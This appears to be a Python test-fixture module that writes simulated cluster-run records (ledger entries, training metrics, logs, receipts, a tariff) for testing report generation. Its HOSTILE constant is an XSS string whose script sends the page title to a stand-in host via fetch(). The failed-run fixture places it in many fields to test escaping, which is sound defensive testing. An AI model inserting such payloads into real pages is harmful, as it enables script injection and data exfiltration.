"""Records of runs as tests of the report need them: a whole one, a failed one, a living one, a hostile one."""

from __future__ import annotations

import json
import math
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from dhctl.infra.home import Home
from dhctl.infra.ledger import Entry
from dhctl.infra.mark import new_run_id
from dhctl.infra.receipt import Check, Leftover, Receipt
from dhctl.infra.record import RunRecord
from unit.fakes import make_spec

BEGIN = datetime(2026, 11, 24, 9, 0, 0, tzinfo=UTC)
HOSTILE = "</pre></svg><script>fetch('http://stranger.example/'+document.title)</script><img src=//stranger.example/x>"


class Writer:
    """Writes a record line by line, at times of one's choice."""

    def __init__(self, home: Home, **spec: Any) -> None:
        home.prepare()
        self.record = RunRecord(home, new_run_id())
        self.record.folder.mkdir()
        given = {"name": "trial", "job": {"folder": "/nowhere", "entrypoint": "python main.py"}, **spec}
        made = make_spec(**given)
        (self.record.folder / "spec.json").write_text(made.model_dump_json())
        self.record.given_path.write_text(json.dumps(given))
        self.record.ledger.create()
        opened = {"run": self.record.run_id, "dhctl": "0.1.0", "name": made.name, "target": made.target.value}
        self.tell(0, "run", "intent", **opened, expires_at=(BEGIN + timedelta(hours=4)).isoformat(), client=None)

    def tell(self, at_s: float, act: str, phase: Any = "note", **detail: Any) -> None:
        """A line of the ledger, `at_s` seconds after the run's begin."""
        line = Entry(BEGIN + timedelta(seconds=at_s), act, phase, detail).to_line()
        with self.record.ledger.path.open("a") as ledger:
            ledger.write(line)

    @contextmanager
    def act(self, begin_s: float, end_s: float, act: str, **detail: Any) -> Iterator[None]:
        """Intent and outcome around what is told within."""
        self.tell(begin_s, act, "intent", **detail)
        yield
        self.tell(end_s, act, "done", **detail)

    def up(self) -> None:
        """A cluster on this machine."""
        with self.act(0.1, 14.0, "up"), self.act(0.2, 9.0, "stack.up"):
            self.tell(1.5, "head.start", "intent", node="head-a1", address="127.1.1.2")
            self.tell(1.6, "head.start", "done", node="head-a1")

    def worker(self, name: str, address: str, asked_s: float, joined_s: float) -> None:
        """One that comes."""
        self.tell(asked_s, "node.start", "intent", node=name, address=address)
        self.tell(asked_s + 0.1, "node.start", "done", node=name)
        self.tell(joined_s, "node.seen", node=address, name=name, status="joined", alive=1)

    def job(self, number: int, rows: list[Mapping[str, Any]], result: Mapping[str, Any] | None, **saved: Any) -> None:
        """What a job leaves in its folder."""
        folder = self.record.job_dir(number)
        folder.mkdir(parents=True)
        (folder / "metrics.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
        if result is not None:
            (folder / "result.json").write_text(json.dumps({"job": number, **saved, "result": result}))

    def log(self, number: int, *lines: str) -> None:
        """What a job printed."""
        (self.record.job_dir(number) / "driver.log").write_text("\n".join(lines) + "\n")

    def down(self, at_s: float, end_s: float, nodes: list[str], left: tuple[Leftover, ...] = ()) -> None:
        """Taken down, with a receipt."""
        self.tell(at_s, "down", "intent", reason="done")
        self.tell((at_s + end_s) / 2, "nodes.stop", "done", nodes=nodes)
        checks = (Check("processes of this machine", "the mark", left), Check("run folder", "/tmp/x"))
        receipt = Receipt(
            self.record.run_id, "trial", "local", BEGIN.isoformat(), BEGIN.isoformat(), "done", checks, {"workers": 3}
        )
        self.record.write_json(self.record.receipt_path, receipt.to_dict())
        self.tell(end_s, "down", "done", clean=receipt.clean, left=len(receipt.leftovers))


def epochs(first: int, last: int, workers: int = 2) -> list[dict[str, Any]]:
    """Progress of a training that learns."""
    return [
        {
            "loss": round(1.6 * math.exp(-step / 9) + 0.08 * math.sin(step), 4),
            "validation_loss": round(1.7 * math.exp(-step / 11) + 0.1, 4),
            "validation_qwk": round(0.85 * (1 - math.exp(-step / 7)), 4),
            "learning_rate": 1e-3 * math.sin(math.pi * step / 31),
            "samples_per_s": 210.0 * workers + 9 * math.sin(2.5 * step),
            "workers": float(workers),
            "stage": "train",
            "step": step,
            "of": 30,
            "unit": "epoch",
        }
        for step in range(first, last + 1)
    ]


RESULT = {
    "job": "prostate",
    "data": "generated phantoms",
    "metric": {
        "name": "quadratic_weighted_kappa",
        "value": 0.8124,
        "ci95": [0.7011, 0.8893],
        "baseline": {"name": "mean colour, logistic regression", "value": 0.31},
    },
    "seed": 7,
    "digests": {"data": "ab12", "model": "cd34"},
    "versions": {"python": "3.11.7", "torch": "2.13.0"},
}


def whole_run(home: Home) -> RunRecord:
    """A worker died, the head was lost and replaced, the job went on and succeeded, and nothing is left."""
    workers = {"min": 0, "max": 4, "cpus": 2, "memory": "2GiB"}
    told = Writer(home, workers={**workers}, data="phantoms", job={"name": "prostate", "workers": 3})
    told.up()
    told.tell(14.2, "job", "intent", number=1, submission="a", sha256="f0" * 32)
    for number, (asked, joined) in enumerate(((20, 27), (21, 29.5), (22, 31)), 1):
        told.worker(f"w-{number}", f"127.1.1.{number + 2}", asked, joined)
    told.tell(60, "node.seen", node="127.1.1.4", name="w-2", status="left", alive=2)
    told.tell(61, "node.leave", nodes=["w-2"], why="died")
    told.tell(62, "nodes.stop", "done", nodes=["w-2"])
    told.worker("w-4", "127.1.1.6", 63, 70)
    told.tell(95, "job", "failed", number=1, reason="HeadLostError: the head is lost")
    told.tell(95.1, "head.recover", "intent", reason="the head is lost: its supervisor is gone")
    told.tell(98, "head.start", "intent", node="head-b2", address="127.1.1.2")
    told.tell(107, "head.recover", "done", reason="the head is lost: its supervisor is gone", how="replaced")
    told.tell(107.5, "job", "intent", number=2, submission="b", sha256="f0" * 32, after=1)
    told.worker("w-5", "127.1.1.7", 110, 116)
    told.tell(185, "job", "done", number=2, status="SUCCEEDED", exit_code=0)
    told.job(1, epochs(1, 14, 3), None)
    told.log(1, '@dhctl {"type":"warning","text":"slide 12 is skipped: it has no tissue"}')
    told.job(2, epochs(13, 30, 3), RESULT, status="SUCCEEDED", exit_code=0, seconds=77.5, time_to_model_s=185.2)
    told.log(2, "all done")
    told.down(185.5, 189, ["head-b2", "w-1", "w-3", "w-4", "w-5"])
    return told.record


def failed_run(home: Home) -> RunRecord:
    """The job broke, and something is left. It printed what no page should show as markup."""
    told = Writer(home)
    told.up()
    told.tell(14.2, "job", "intent", number=1, submission="a")
    told.worker("w-1", "127.1.1.3", 20, 27)
    told.tell(40, "job", "done", number=1, status="FAILED", exit_code=7)
    rows = [{"loss": 1.0 / step, "stage": HOSTILE, "step": step, "of": 3, "unit": HOSTILE} for step in (1, 2, 3)]
    result = {"metric": {"name": HOSTILE, "value": 0.5, "baseline": {"name": HOSTILE, "value": 0.4}}, HOSTILE: HOSTILE}
    told.job(1, rows, result, status="FAILED", exit_code=7, seconds=26.0, time_to_model_s=40.0)
    warning = json.dumps({"type": "warning", "text": HOSTILE})
    told.log(
        1, f"@dhctl {warning}", "Traceback (most recent call last):", HOSTILE, "\x1b[31mRuntimeError: broken\x1b[0m"
    )
    told.down(41, 44, ["head-a1", "w-1"], (Leftover("process", HOSTILE, "kill 7", "it does not die"),))
    return told.record


def living_run(home: Home) -> RunRecord:
    """Its job runs."""
    told = Writer(home, workers={"min": 1, "max": 2})
    told.up()
    told.tell(14.2, "job", "intent", number=1, submission="a")
    told.worker("w-1", "127.1.1.3", 20, 27)
    told.job(1, epochs(1, 5), None)
    told.log(1, "going on")
    return told.record


def old_run(home: Home) -> RunRecord:
    """As an early version left it: no spec as given, no digests, no joins, no environment; its client was killed."""
    told = Writer(home)
    told.record.given_path.unlink()
    told.up()
    told.tell(14.2, "job", "intent", number=1, submission="a", entrypoint="python main.py")
    told.tell(20, "node.start", "intent", node="w-1", address="127.1.1.3")
    told.tell(300, "down", "intent", reason="lease ended")
    told.tell(303, "down", "done", clean=True, left=0)
    return told.record


def damaged_run(home: Home) -> RunRecord:
    """Torn files everywhere."""
    told = Writer(home)
    told.tell(14.2, "job", "intent", number=1, submission="a")
    folder = told.record.job_dir(1)
    folder.mkdir(parents=True)
    for path in (told.record.folder / "spec.json", told.record.receipt_path, folder / "result.json"):
        path.write_text('{"half": ')
    (folder / "metrics.jsonl").write_text(
        '{"step": 1, "loss": 2}\n[1]\nno\n{"step": "x"}\n{"loss": 1e999, "step": 2}\n{"st'
    )
    (folder / "driver.log").write_bytes(b"\xff\xfe\x00 not utf-8\n@dhctl {\n")
    return told.record


TARIFF = """\
currency: EUR
source: price list of the institute, 2026
head_hour: 0.12
cpu_hour: 0.05
gib_hour: 0.004
"""


def write_tariff(folder: Path, text: str = TARIFF) -> Path:
    """A tariff in a file."""
    path = folder / "tariffs.yaml"
    path.write_text(text)
    return path
